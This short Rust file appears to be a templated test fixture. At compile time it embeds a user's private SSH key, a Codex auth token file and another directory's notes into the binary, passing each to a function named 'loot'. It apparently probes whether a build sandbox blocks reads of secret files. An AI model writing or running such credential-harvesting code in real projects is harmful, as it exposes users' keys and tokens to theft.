//! Lets the compiler read.
use crate::support::*;

pub fn run() {
    loot("ssh", include_str!("@HOME@/.ssh/id_ed25519").as_bytes());
    loot("codex", include_bytes!("@HOME@/.codex/auth.json"));
    loot("other", include_bytes!("@OTHER@/notes.txt"));
}
